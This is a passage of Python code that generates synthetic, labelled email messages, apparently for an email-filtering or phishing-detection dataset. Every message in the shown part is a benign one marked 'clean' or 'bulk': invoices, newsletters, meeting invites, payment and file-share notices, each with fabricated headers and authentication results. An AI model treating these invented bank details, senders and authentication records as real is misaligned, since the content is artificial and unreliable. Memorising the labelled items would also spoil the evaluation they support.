                 "Reference: HPE-PO-4471", "", "Bill To: Hartwell Pryce Engineering Pty Ltd", "",
                 "Leica GS18 GNSS rover - monthly hire (March 2025)    1    $1,450.00",
                 "Calibration and service - TS16 total station         1      $380.00",
                 "Subtotal                                                  $1,830.00",
                 "GST 10%                                                     $183.00",
                 "TOTAL AUD                                                 $2,013.00", "",
                 "Payment: EFT to BSB 062-140  Account 1049 3318  (ref: " + inv + ")",
                 "Thank you for your business."], title=inv)
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#333;">
<p>Hi Accounts,</p>
<p>Here's invoice {inv} for AUD 2,013.00.</p>
<p>The amount outstanding of <b>AUD 2,013.00</b> is due on 30 Apr 2025.</p>
<p><a href="{link}" style="background:#13b5ea;color:#fff;padding:10px 20px;text-decoration:none;border-radius:3px;">View and pay invoice online</a></p>
<p>From your online bill you can print a PDF, export a CSV, or create a free login and view your outstanding bills.</p>
<p>If you have any questions, please let us know.</p>
<p>Thanks,<br>Sydney Survey Instruments Pty Ltd</p>
<p style="font-size:11px;color:#999;">Sent via <a href="https://www.xero.com/" style="color:#999;">Xero</a></p>
</body></html>
"""
    plain = (f"Hi Accounts,\n\nHere's invoice {inv} for AUD 2,013.00.\n\nThe amount outstanding of AUD 2,013.00 is due on 30 Apr "
             f"2025.\n\nView and pay invoice online: {link}\n\nIf you have any questions, please let us know.\n\nThanks,\n"
             "Sydney Survey Instruments Pty Ltd\n")
    hdr = join(top, dkim("post.xero.com", "s1", "From:Reply-To:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               f"Date: {rfc(t)}", 'From: "Sydney Survey Instruments Pty Ltd" <messaging-service@post.xero.com>',
               "Reply-To: accounts@sydneysurvey.com.au", f"To: {rcpt}",
               f"Message-ID: <{uid(stem + 'mid')}@post.xero.com>",
               f"Subject: Invoice {inv} from Sydney Survey Instruments Pty Ltd for Hartwell Pryce Engineering Pty Ltd",
               "MIME-Version: 1.0", f"X-Xero-Message-Id: {uid(stem + 'xm')}")
    body = Multi("mixed", "----=_Part_" + digits(stem + "b", 9), [
        alt(stem, plain, html), attachment("application/pdf", f"Invoice {inv}.pdf", pdf)])
    emit(stem, "bulk", "Genuine Xero invoice from an equipment-hire supplier (post.xero.com, aligned) with the invoice PDF "
         "attached and an in.xero.com pay link.", message(hdr, body))


@build
def legit_supplier_statement():
    stem = "b46-legit-supplier-statement"
    rcpt = f"sarah.whitfield@{UKHA}"
    t = T("2025-03-04 09:47:21")
    sender = "accounts@ashworthlifts.co.uk"
    o = m365_out("Rachel Ashworth", sender, f"Sarah Whitfield <{rcpt}>", "Statement of account - February 2025", t, stem,
                 "uk", has_attach=True, lang="en-GB")
    auth = Auth("pass", sender, [("pass", "ashworthlifts.co.uk", "selector1")], "pass", "ashworthlifts.co.uk", "quarantine")
    top, bottom = m365_in("ukha", stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth, ctry="GB")
    pdf = F.pdf(["Ashworth Lifts Ltd - Statement of Account", "Customer: Severn Vale Homes (SVH001)", "Date: 28/02/2025", "",
                 "Date        Ref        Description                          Debit      Credit",
                 "03/02/25    AL-7741    LOLER inspections - Jan              1,140.00",
                 "10/02/25    PAY        BACS received                                   2,280.00",
                 "17/02/25    AL-7790    Call-out Brunel Court lift 2           395.00",
                 "24/02/25    AL-7812    Quarterly maintenance - 6 lifts      2,460.00", "",
                 "Balance outstanding: GBP 3,995.00", "",
                 "Bank details are unchanged: Lloyds, sort code 30-94-57, account 02718834"], title="Statement SVH001")
    paras = ["Hi Sarah,", "", "Please find attached your statement for February. AL-7741 and AL-7790 are now past 30 days, "
             "would you be able to let me know if they're on the next payment run?", "",
             "Many thanks,"]
    sig = ["Rachel Ashworth", "Accounts | Ashworth Lifts Ltd", "01242 555 601"]
    body = Multi("mixed", o["mixbnd"], [
        Multi("alternative", o["bnd"], [tleaf(plain_from(paras, sig), "plain", "quoted-printable", "utf-8", "us-ascii"),
                                       tleaf(outlook_html(paras, sig), "html", "quoted-printable", "utf-8", "us-ascii")]),
        attachment("application/pdf", "SVH001 Statement Feb 2025.pdf", pdf),
    ])
    emit(stem, "clean", "Genuine statement of account from a long-standing lift-maintenance contractor's Outlook mailbox, "
         "chasing two overdue invoices, PDF statement attached (bank details explicitly unchanged).",
         message(join(top, o["pre"], o["hdrs"], bottom), body))


def ics(uid_: str, organizer: tuple[str, str], attendees: list[tuple[str, str]], summary: str, start: datetime,
        minutes: int, location: str, description: str, tzid: str, stamp: datetime) -> str:
    def f(d: datetime) -> str:
        return d.astimezone(ZoneInfo(tzid)).strftime("%Y%m%dT%H%M%S")

    def fold(line: str) -> str:
        out, cur = [], line
        while len(cur.encode()) > 74:
            out.append(cur[:74])
            cur = " " + cur[74:]
        out.append(cur)
        return "\r\n".join(out)

    desc = description.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")
    lines = ["BEGIN:VCALENDAR", "METHOD:REQUEST", "PRODID:Microsoft Exchange Server 2010", "VERSION:2.0",
             "BEGIN:VTIMEZONE", f"TZID:{tzid}", "END:VTIMEZONE", "BEGIN:VEVENT",
             f"ORGANIZER;CN={organizer[0]}:mailto:{organizer[1]}"]
    for n, a in attendees:
        lines.append(f'ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN="{n}":mailto:{a}')
    lines += [f"DESCRIPTION;LANGUAGE=en-US:{desc}", f"UID:{uid_}", f"SUMMARY;LANGUAGE=en-US:{summary}",
              f"DTSTART;TZID={tzid}:{f(start)}", f"DTEND;TZID={tzid}:{f(later(start, minutes * 60))}", "CLASS:PUBLIC",
              "PRIORITY:5", f"DTSTAMP:{stamp.astimezone(ZoneInfo('UTC')).strftime('%Y%m%dT%H%M%SZ')}", "TRANSP:OPAQUE",
              "STATUS:CONFIRMED", "SEQUENCE:0", f"LOCATION;LANGUAGE=en-US:{location}", "BEGIN:VALARM",
              "DESCRIPTION:REMINDER", "TRIGGER;RELATED=START:-PT15M", "ACTION:DISPLAY", "END:VALARM", "END:VEVENT",
              "END:VCALENDAR"]
    return "\r\n".join(fold(x) for x in lines) + "\r\n"


def sfmc(brand_dom: str, sub: str, rcpt: str, t: datetime, seed: str) -> dict:
    """Salesforce Marketing Cloud sending identity for a brand."""
    job = digits(seed + "job", 7)
    mailfrom = f"bounce-{num(seed + 'bn', 10, 99)}_HTML-{digits(seed + 'bn2', 9)}-{job}-{digits(seed + 'bn3', 7)}-" \
               f"{num(seed + 'bn4', 100, 999)}@bounce.{sub}.{brand_dom}"
    ip = f"13.111.{num(seed + 'a', 1, 250)}.{num(seed + 'b', 1, 250)}"
    helo = rdns = f"mta.{sub}.{brand_dom}"
    return dict(mailfrom=mailfrom, ip=ip, helo=helo, rdns=rdns, job=job,
                dk=dkim(f"{sub}.{brand_dom}", "200608", "From:To:Subject:Date:List-Unsubscribe:MIME-Version:Reply-To:"
                        "List-ID:X-CSA-Complaints:Message-ID:Content-Type", seed + "sfdk", t),
                msgid=f"<{uid(seed + 'sfmid')}@atl1s07mta{num(seed + 'mta', 1000, 9999)}.xt.local>",
                click=lambda k: f"https://click.{sub}.{brand_dom}/?qs={hx(seed + 'qs' + str(k), 192)}")


@build
def legit_engineers_australia_newsletter():
    stem = "b46-legit-ea-newsletter"
    rcpt = f"jnguyen@{AU}"
    t = T("2025-09-10 21:30:04")
    s = sfmc("engineersaustralia.org.au", "e", rcpt, t, stem)
    auth = Auth("pass", s["mailfrom"], [("pass", "e.engineersaustralia.org.au", "200608")], "pass",
                "e.engineersaustralia.org.au", "none")
    top = postfix_in(rcpt, stem, t, s["ip"], s["helo"], s["rdns"], auth, spam="-0.5")
    stories = [("Chartered status: changes to the competency assessment from 2026",
                "We're updating the Stage 2 competency standard. Here's what applicants need to know."),
               ("Bridges of the future: timber-concrete composites in regional NSW",
                "A new technical paper from the Structural College looks at three recent projects."),
               ("CPD webinar: Designing for climate resilience in Australian infrastructure",
                "Thursday 25 September, 12:30pm AEST. Free for members, 1 CPD hour."),
               ("Engineering Excellence Awards: Sydney finalists announced",
                "Congratulations to this year's finalists across eight categories.")]
    cards = "".join(
        f'<tr><td style="padding:16px 24px;border-bottom:1px solid #e6e6e6;"><a href="{s["click"](i)}" style="font-size:17px;'
        f'color:#00205b;font-weight:bold;text-decoration:none;">{esc(h)}</a><p style="margin:6px 0 0 0;font-size:14px;'
        f'color:#444;">{esc(p)}</p></td></tr>\n' for i, (h, p) in enumerate(stories))
    html = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>EA Update</title></head>
<body style="margin:0;background:#f2f2f2;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:16px 0;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;">
<tr><td style="background:#00205b;padding:18px 24px;color:#fff;font-size:20px;font-weight:bold;">Engineers Australia &middot; EA Update</td></tr>
<tr><td style="padding:14px 24px;font-size:14px;color:#444;">Hi Jack, here's your fortnightly update for the Sydney region.</td></tr>
{cards}<tr><td style="padding:20px 24px;font-size:11px;color:#777;">You are receiving this email as a member of Engineers Australia.
<a href="{s['click'](90)}" style="color:#777;">Update your preferences</a> | <a href="{s['click'](91)}" style="color:#777;">Unsubscribe</a><br>
Engineers Australia, 11 National Circuit, Barton ACT 2600. ABN 63 004 327 402.</td></tr>
</table></td></tr></table>
<img src="https://click.e.engineersaustralia.org.au/open.aspx?ffcb10-{hx(stem + 'op', 60)}" width="1" height="1" alt="">
</body></html>
"""
    plain = "EA Update - Sydney\n\nHi Jack, here's your fortnightly update for the Sydney region.\n\n" + "\n\n".join(
        f"{h}\n{p}\n{s['click'](i)}" for i, (h, p) in enumerate(stories)) + f"\n\nUnsubscribe: {s['click'](91)}\n"
    hdr = join(top, s["dk"],
               f"Received: by mta.e.engineersaustralia.org.au id {hx(stem + 'rid', 12)} for <{rcpt}>; {rfc(t)}",
               'From: "Engineers Australia" <news@e.engineersaustralia.org.au>', f"To: <{rcpt}>",
               "Subject: EA Update: chartered assessment changes, timber-concrete bridges and more",
               f"Date: {rfc(t)}",
               f"List-Unsubscribe: <{s['click'](91)}>, <mailto:leave-{hx(stem + 'lv', 40)}@leave.e.engineersaustralia.org.au>",
               "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
               "MIME-Version: 1.0", 'Reply-To: "Engineers Australia" <reply-fec01-' + hx(stem + 'rt', 20) + '@e.engineersaustralia.org.au>',
               f"List-ID: <{digits(stem + 'lid', 9)}.xt.local>", "X-CSA-Complaints: csa-complaints@eco.de",
               f"x-job: {digits(stem + 'xj', 7)}_{s['job']}", f"Message-ID: {s['msgid']}", "Feedback-ID: " +
               f"{digits(stem + 'fb', 7)}:{digits(stem + 'fb2', 9)}:{ip_tag(s['ip'])}:sfmktgcld")
    emit(stem, "bulk", "Genuine Engineers Australia member newsletter sent through Salesforce Marketing Cloud with "
         "click.e.engineersaustralia.org.au tracking links and one-click unsubscribe.", message(hdr, alt(stem, plain, html)))


def ip_tag(ip: str) -> str:
    return ip.replace(".", "")


@build
def legit_inside_housing_newsletter():
    stem = "b46-legit-housing-newsletter"
    rcpt = f"lisa.morgan@{UKHA}"
    t = T("2025-10-07 06:15:02")
    ip = f"203.55.{num(stem + 'a', 21, 21)}.{num(stem + 'b', 10, 250)}"
    helo = rdns = f"sv{num(stem + 'h', 10, 99)}.createsend1.com"
    mailfrom = f"bounces-{hx(stem + 'cm', 6)}-{digits(stem + 'cm2', 4)}-lisa.morgan=svhomes.org.uk@cmail20.com"
    auth = Auth("pass", mailfrom, [("pass", "housingtoday.co.uk", "cm"), ("pass", "createsend1.com", "cm")], "pass",
                "housingtoday.co.uk", "none")
    top, bottom = m365_in("ukha", stem, later(t, 2), ip, helo, rdns, auth, ctry="AU", bcl=4)
    base = f"https://housingtoday.cmail20.com/t/d-l-{lower(stem + 'cl', 7)}-{lower(stem + 'cl2', 10)}-"
    items = [("Regulator publishes first consumer standards inspection grades", "a"),
             ("Damp and mould: what Awaab's Law means for repairs timescales from October", "b"),
             ("Social rent settlement: ten-year deal confirmed at CPI+1%", "c"),
             ("Opinion: why tenant voice panels need real budgets", "d")]
    rows = "".join(f'<tr><td style="padding:12px 20px;border-bottom:1px solid #ddd;"><a href="{base}{k}/" style="color:#1b1b1b;'
                   f'font-size:16px;font-weight:bold;text-decoration:none;">{esc(h)}</a></td></tr>\n' for h, k in items)
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#eeeeee;"><table width="100%"><tr><td align="center" style="padding:14px 0;">
<table width="620" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Georgia,serif;">
<tr><td style="background:#c8102e;padding:16px 20px;color:#fff;font-size:24px;">Housing Today &middot; Daily Briefing</td></tr>
<tr><td style="padding:10px 20px;font-size:13px;color:#666;font-family:Arial,sans-serif;">Tuesday 7 October 2025</td></tr>
{rows}<tr><td style="padding:18px 20px;font-size:11px;color:#888;font-family:Arial,sans-serif;">You are receiving this because you
registered at housingtoday.co.uk. <a href="{base}e/" style="color:#888;">Manage preferences</a> &middot;
<a href="https://housingtoday.cmail20.com/t/d-u-{lower(stem + 'un', 7)}-{lower(stem + 'un2', 10)}/" style="color:#888;">Unsubscribe</a><br>
Housing Today Media Ltd, 3 Waterhouse Square, London EC1N 2SW</td></tr>
</table></td></tr></table>
<img src="https://housingtoday.cmail20.com/t/d-o-{lower(stem + 'o', 7)}-{lower(stem + 'o2', 10)}/o.gif" width="1" height="1" alt=""></body></html>
"""
    plain = "Housing Today - Daily Briefing\nTuesday 7 October 2025\n\n" + "\n\n".join(f"{h}\n{base}{k}/" for h, k in items) + \
        f"\n\nUnsubscribe: https://housingtoday.cmail20.com/t/d-u-{lower(stem + 'un', 7)}-{lower(stem + 'un2', 10)}/\n"
    hdr = join(top, dkim("housingtoday.co.uk", "cm", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:"
                         "List-Unsubscribe:List-Unsubscribe-Post", stem + "a", t),
               dkim("createsend1.com", "cm", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:List-Unsubscribe",
                    stem + "b", t),
               f"Received: from localhost ([127.0.0.1]) by {helo}; {rfc(t)}",
               'From: "Housing Today" <newsletters@housingtoday.co.uk>', f"To: <{rcpt}>",
               "Subject: Daily Briefing: first consumer standards grades published",
               f"Date: {rfc(t)}", f"Message-ID: <{hx(stem + 'mid', 32).upper()}@createsend1.com>",
               "MIME-Version: 1.0", f"X-CMail-Campaign: {hx(stem + 'camp', 16)}",
               f"List-Unsubscribe: <https://housingtoday.cmail20.com/t/d-u-{lower(stem + 'un', 7)}-{lower(stem + 'un2', 10)}/>",
               "List-Unsubscribe-Post: List-Unsubscribe=One-Click", f"Feedback-ID: {digits(stem + 'fb', 6)}:cm", bottom)
    emit(stem, "bulk", "Genuine daily briefing from a UK social-housing trade publication sent through Campaign Monitor, with "
         "cmail20.com tracking links and one-click unsubscribe.", message(hdr, alt(stem, plain, html)))


@build
def legit_zoom_committee_invite():
    stem = "b46-legit-zoom-invite"
    rcpt = f"rholloway@{USU}"
    t = T("2025-04-08 19:22:10")
    sender = f"praman@{USU}"
    o = outlook_internal("Priya Raman", sender, f"Rebecca Holloway <{rcpt}>",
                         "Thesis committee meeting - J. Alvarez", t, stem, "usu",
                         cc=f"Daniel Kim <dkim@{USU}>", extra=["Content-Class: urn:content-classes:calendarmessage"])
    mtg = f"9{digits(stem + 'z', 9)}"
    pwd = alnum(stem + "pwd", 32)
    zoom = f"https://lakemont.zoom.us/j/{mtg}?pwd={pwd}"
    desc = (f"Hi all, scheduling Jessica Alvarez's MS thesis committee meeting.\n\nJoin Zoom Meeting\n{zoom}\n\nMeeting ID: "
            f"{mtg[:3]} {mtg[3:7]} {mtg[7:]}\nPasscode: {digits(stem + 'pc', 6)}\n\nOne tap mobile\n+13126266799,,{mtg}# US (Chicago)\n")
    cal = ics(f"040000008200E00074C5B7101A82E008000000{hx(stem + 'u', 40, True)}", ("Priya Raman", sender),
              [("Rebecca Holloway", rcpt), ("Daniel Kim", f"dkim@{USU}")], "Thesis committee meeting - J. Alvarez",
              T("2025-04-15 20:00:00"), 60, "Zoom / Biology 214", desc, "America/Chicago", t)
    paras = ["Hi all, scheduling Jessica Alvarez's MS thesis committee meeting.", "", "Join Zoom Meeting",
             f'<a href="{zoom}">{zoom}</a>', "", f"Meeting ID: {mtg[:3]} {mtg[3:7]} {mtg[7:]}",
             f"Passcode: {digits(stem + 'pc', 6)}", "", "One tap mobile", f"+13126266799,,{mtg}# US (Chicago)"]
    body = Multi("alternative", o["bnd"], [
        tleaf(plain_from(paras), "plain", "quoted-printable", "utf-8", "us-ascii"),
        tleaf(outlook_html(paras), "html", "quoted-printable", "utf-8", "us-ascii"),
        Leaf("text/calendar", cal.encode(), "base64", '; charset="utf-8"; method=REQUEST'),
    ])
    emit(stem, "clean", "Genuine internal Outlook meeting request with a Zoom link on the university's own zoom.us subdomain "
         "and an iCalendar part, from a department administrator to a professor.", message(o["hdrs"], body))


@build
def legit_teams_invite_partner():
    stem = "b46-legit-teams-invite"
    rcpt = f"bkowalski@{CA}"
    t = T("2025-05-06 15:10:27")
    sender = "a.desjardins@prairiecentral.ca"
    o = m365_out("Andre Desjardins", sender, f"Brent Kowalski <{rcpt}>", "Q2 liquidity reporting walkthrough", t, stem,
                 "ca")
    auth = Auth("pass", sender, [("pass", "prairiecentral.ca", "selector1")], "pass", "prairiecentral.ca", "reject")
    top = gmail_in(rcpt, stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth)
    ctx = '%7b%22Tid%22%3a%22' + uid(stem + "tid") + '%22%2c%22Oid%22%3a%22' + uid(stem + "oid") + '%22%7d'
    teams = (f"https://teams.microsoft.com/l/meetup-join/19%3ameeting_{b64url(stem + 'mt', 48)}%40thread.v2/0?context={ctx}")
    mid = digits(stem + "mid", 12)
    desc = (f"Hi Brent, walking through the new Q2 liquidity template and the revised LCR tabs.\n\n"
            "________________________________________________________________________________\nMicrosoft Teams meeting\n"
            f"Join on your computer, mobile app or room device\nClick here to join the meeting<{teams}>\nMeeting ID: "
            f"{mid[:3]} {mid[3:6]} {mid[6:9]} {mid[9:]}\nPasscode: {alnum(stem + 'pc', 6)}\n")
    cal = ics(f"040000008200E00074C5B7101A82E008000000{hx(stem + 'u', 40, True)}", ("Andre Desjardins", sender),
              [("Brent Kowalski", rcpt)], "Q2 liquidity reporting walkthrough", T("2025-05-08 16:00:00"), 45,
              "Microsoft Teams Meeting", desc, "America/Regina", t)
    html = outlook_html(["Hi Brent, walking through the new Q2 liquidity template and the revised LCR tabs.", ""]) .replace(
        "</body>", '<div style="width:100%"><span style="white-space:nowrap;color:#5F5F5F;opacity:.36;">'
        "________________________________________________________________________________</span></div>"
        '<div class="me-email-text" style="color:#242424;font-family:\'Segoe UI\',\'Helvetica Neue\',Helvetica,Arial,sans-serif;">'
        '<div style="margin-top:24px;margin-bottom:20px;"><span style="font-size:24px;font-weight:700;">Microsoft Teams meeting</span></div>'
        f'<div style="margin-bottom:20px;"><a href="{teams}" target="_blank" style="font-size:20px;font-weight:600;color:#5B5FC7;">Join the meeting now</a></div>'
        f'<div>Meeting ID: {mid[:3]} {mid[3:6]} {mid[6:9]} {mid[9:]}</div><div>Passcode: {alnum(stem + "pc", 6)}</div>'
        '<div style="margin-top:20px;font-size:12px;"><a href="https://aka.ms/JoinTeamsMeeting?omkt=en-US">Need help?</a> | '
        '<a href="https://www.microsoft.com/microsoft-teams/join-a-meeting">Learn More</a></div></div></body>')
    body = Multi("alternative", o["bnd"], [
        tleaf(desc, "plain", "quoted-printable", "utf-8", "utf-8"),
        tleaf(html, "html", "quoted-printable", "utf-8", "utf-8"),
        Leaf("text/calendar", cal.encode(), "base64", '; charset="utf-8"; method=REQUEST'),
    ])
    emit(stem, "clean", "Genuine Microsoft Teams meeting invitation from a contact at the provincial credit-union central "
         "(Outlook, all aligned) with a teams.microsoft.com meetup-join link and calendar part.",
         message(join(top, o["pre"], o["hdrs"]), body))


@build
def legit_registrar_grades_notice():
    stem = "b46-legit-registrar-notice"
    rcpt = f"rholloway@{USU}"
    t = T("2025-12-08 14:00:05")
    ip, helo, rdns = "147.126.64.25", "smtp-relay.lakemont.edu", "smtp-relay.lakemont.edu"
    auth = Auth("pass", f"registrar@{USU}", [("pass", USU, "relay2024")], "pass", USU, "quarantine")
    top, bottom = m365_in("usu", stem, later(t, 2), ip, helo, rdns, auth, ctry="US", bcl=0)
    paras = ["Dear Faculty,", "",
             "Final grades for the Fall 2025 term are due in <b>Lakemont Self-Service by 11:59 PM on Wednesday, December "
             "17</b>. Grade rosters open on Monday, December 8.", "",
             "&bull; Enter grades at <a href=\"https://selfservice.lakemont.edu/faculty/grades\">selfservice.lakemont.edu</a> "
             "(NetID sign-in)<br>&bull; Incomplete (I) grades require a completed Incomplete Contract on file<br>"
             "&bull; Grade change requests after the deadline go through the Grade Change form in Self-Service", "",
             "A short video guide is available on the <a href=\"https://registrar.lakemont.edu/faculty/grading\">Registrar's "
             "faculty page</a>. Questions: registrar@lakemont.edu or ext. 2-4410.", "",
             "Office of the Registrar", "Lakemont University"]
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body style=\"font-family:"
            "Georgia,serif;font-size:15px;color:#222;\"><div style=\"max-width:620px;\"><div style=\"border-bottom:3px solid "
            "#0b2e59;padding:8px 0;font-size:20px;color:#0b2e59;\">Office of the Registrar</div>"
            + "".join(f"<p>{p}</p>" for p in paras if p) + "</div></body></html>\n")
    hdr = join(top, dkim(USU, "relay2024", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               f"Received: from banjobs01.ad.lakemont.edu (banjobs01.ad.lakemont.edu [10.20.4.31])\n\tby "
               f"smtp-relay.lakemont.edu (Postfix) with ESMTP id {alnum(stem + 'q', 10, 'ABCDEF0123456789')}\n\tfor <{rcpt}>; {rfc(t)}",
               f"From: Office of the Registrar <registrar@{USU}>", f"To: {rcpt}",
               "Subject: Reminder: Fall 2025 final grades due Wednesday, December 17",
               f"Date: {rfc(t, 'America/Chicago')}", f"Message-ID: <{digits(stem + 'mid', 13)}.{digits(stem + 'm2', 4)}@banjobs01>",
               "MIME-Version: 1.0", "X-Mailer: Ellucian Communication Management", bottom)
    emit(stem, "bulk", "Genuine registrar reminder to faculty about the final-grades deadline, sent by the student-system job "
         "server through the university's own authenticated relay, linking only to lakemont.edu sites.",
         message(hdr, alt(stem, plain_from(paras), html)))


@build
def legit_interac_genuine():
    stem = "b46-legit-interac-etransfer"
    rcpt = f"cgagnon@{CA}"
    t = T("2025-04-14 23:02:48")
    ip = f"142.{num(stem + 'a', 201, 201)}.{num(stem + 'b', 120, 127)}.{num(stem + 'c', 10, 250)}"
    helo = rdns = f"mail{num(stem + 'h', 1, 6)}.payments.interac.ca"
    auth = Auth("pass", "notify@payments.interac.ca", [("pass", "payments.interac.ca", "s2048")], "pass",
                "payments.interac.ca", "reject")
    top = gmail_in(rcpt, stem, t, ip, helo, rdns, auth)
    ref = "CA" + alnum(stem + "ref", 10, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789")
    link = f"https://etransfer.interac.ca/RsvFs?{alnum(stem + 'l', 12)}={hx(stem + 'l2', 64)}&lang=en"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;font-family:Arial,Helvetica,sans-serif;background:#f5f5f5;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="padding:16px 24px;border-bottom:4px solid #fdb913;font-size:18px;font-weight:bold;">INTERAC e-Transfer&reg;</td></tr>
<tr><td style="padding:22px 24px;font-size:15px;color:#222;line-height:22px;">
<p>Hi CHANTAL GAGNON,</p>
<p>JULIE BERGERON sent you $35.00 (CAD).</p>
<p>Message: <i>Volleyball league spring fees - thanks for covering!</i></p>
<p><a href="{link}" style="background:#1f3c6e;color:#fff;padding:10px 22px;text-decoration:none;">Deposit Your Money</a></p>
<p>Reference Number: {ref}</p>
<p style="font-size:12px;color:#555;">Choose your financial institution to deposit. Never share your online banking password
with anyone. Interac Corp. will never ask you for personal information by email.</p>
<p style="font-size:11px;color:#777;">This email was sent to you by Interac Corp., the owner of the Interac e-Transfer service,
on behalf of JULIE BERGERON. <a href="https://www.interac.ca/en/privacy-policy/">Privacy Policy</a><br>
&reg; Trade-mark of Interac Corp. Used under licence.</p></td></tr></table></body></html>
"""
    plain = (f"Hi CHANTAL GAGNON,\n\nJULIE BERGERON sent you $35.00 (CAD).\n\nMessage: Volleyball league spring fees - thanks for "
             f"covering!\n\nDeposit Your Money: {link}\n\nReference Number: {ref}\n")
    hdr = join(top, dkim("payments.interac.ca", "s2048", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               f"Date: {rfc(t, 'America/Toronto')}", "From: INTERAC e-Transfer <notify@payments.interac.ca>",
               f"To: {rcpt}", "Subject: INTERAC e-Transfer: JULIE BERGERON sent you money.",
               f"Message-ID: <{hx(stem + 'mid', 24)}.{digits(stem + 'm2', 10)}@payments.interac.ca>", "MIME-Version: 1.0")
    emit(stem, "bulk", "Genuine INTERAC e-Transfer notification from payments.interac.ca (aligned, p=reject) for a small "
         "personal payment, linking to etransfer.interac.ca.", message(hdr, alt(stem, plain, html)))


@build
def legit_dropbox_share_architect():
    stem = "b46-legit-dropbox-share"
    rcpt = f"jnguyen@{AU}"
    t = T("2025-07-22 05:41:19")
    ip = f"162.125.{num(stem + 'a', 6, 8)}.{num(stem + 'b', 10, 250)}"
    helo = rdns = f"mail-sender-{num(stem + 'h', 10, 40)}.dropbox.com"
    mailfrom = f"bounces+{digits(stem + 'bn', 8)}@em-s.dropbox.com"
    auth = Auth("pass", mailfrom, [("pass", "dropbox.com", "2024")], "pass", "dropbox.com", "reject")
    top = postfix_in(rcpt, stem, t, ip, helo, rdns, auth)
    fl = f"https://www.dropbox.com/scl/fi/{lower(stem + 'fi', 25)}/Westfield-Rd-Arch-Set-Issue-C.pdf?rlkey={lower(stem + 'rk', 25)}&dl=0"
    who, mail = "Tom Wilde", "tom@lumenarchitects.com.au"
    msg_ = "Jack - Issue C arch set with the revised stair core. Structural grid unchanged from B."
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#f7f5f2;">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f7f5f2;"><tr><td align="center" style="padding:32px 0;">
<table width="520" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'Sharp Grotesk',Helvetica,Arial,sans-serif;">
<tr><td style="padding:32px 40px 8px 40px;"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_34%402x.png" width="34" height="34" alt="Dropbox"></td></tr>
<tr><td style="padding:16px 40px;font-size:16px;line-height:24px;color:#1e1919;">
<b>{who}</b> ({mail}) shared "<b>Westfield Rd - Arch Set Issue C.pdf</b>" with you.</td></tr>
<tr><td style="padding:0 40px 16px 40px;font-size:15px;line-height:22px;color:#637282;"><i>&ldquo;{esc(msg_)}&rdquo;</i></td></tr>
<tr><td style="padding:8px 40px 32px 40px;"><a href="{fl}" style="display:inline-block;background:#0061fe;color:#ffffff;font-size:15px;padding:12px 24px;border-radius:4px;text-decoration:none;">View file</a></td></tr>
<tr><td style="padding:0 40px 32px 40px;font-size:14px;color:#637282;">Enjoy!<br>The Dropbox team</td></tr>
</table>
<table width="520" cellpadding="0" cellspacing="0"><tr><td style="padding:20px 40px;font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#989da3;">
<a href="https://www.dropbox.com/l/AAD{b64url(stem + 'rp', 40)}/report_spam" style="color:#989da3;">Report as spam</a> &middot;
<a href="https://www.dropbox.com/l/AAB{b64url(stem + 'un', 40)}/unsubscribe" style="color:#989da3;">Unsubscribe</a><br>
&copy; 2025 Dropbox, Inc., PO Box 77767, San Francisco, CA 94107</td></tr></table>
</td></tr></table></body></html>
"""
    plain = (f"{who} ({mail}) shared \"Westfield Rd - Arch Set Issue C.pdf\" with you.\n\n\"{msg_}\"\n\nView file ({fl})\n\n"
             "Enjoy!\nThe Dropbox team\n")
    hdr = join(top, dkim("dropbox.com", "2024", "from:reply-to:to:subject:mime-version:content-type:date:message-id:"
                         "list-unsubscribe", stem, t),
               f"Received: from dropbox.com (unknown)\n\tby {helo} (Postfix) with ESMTP id "
               f"{alnum(stem + 'q', 10, 'ABCDEF0123456789')}\n\tfor <{rcpt}>; {rfc(t)}",
               f"Date: {rfc(t)}", "From: Dropbox <no-reply@dropbox.com>", f'Reply-To: "{who}" <{mail}>', f"To: {rcpt}",
               f'Subject: {who} shared "Westfield Rd - Arch Set Issue C.pdf" with you',
               f"Message-ID: <{hx(stem + 'mid', 32)}@dropbox.com>", "MIME-Version: 1.0",
               f"List-Unsubscribe: <https://www.dropbox.com/l/AAB{b64url(stem + 'un', 40)}/unsubscribe>",
               "X-Dropbox-Email-Type: shared_file_invite")
    emit(stem, "bulk", "Genuine Dropbox file-share notification from the project architect's business address, sharing the "
         "latest architectural drawing set on dropbox.com.", message(hdr, alt(stem, plain, html)))


@build
def legit_wetransfer_survey():
    stem = "b46-legit-wetransfer-survey"
    rcpt = f"owen.davies@{UKHA}"
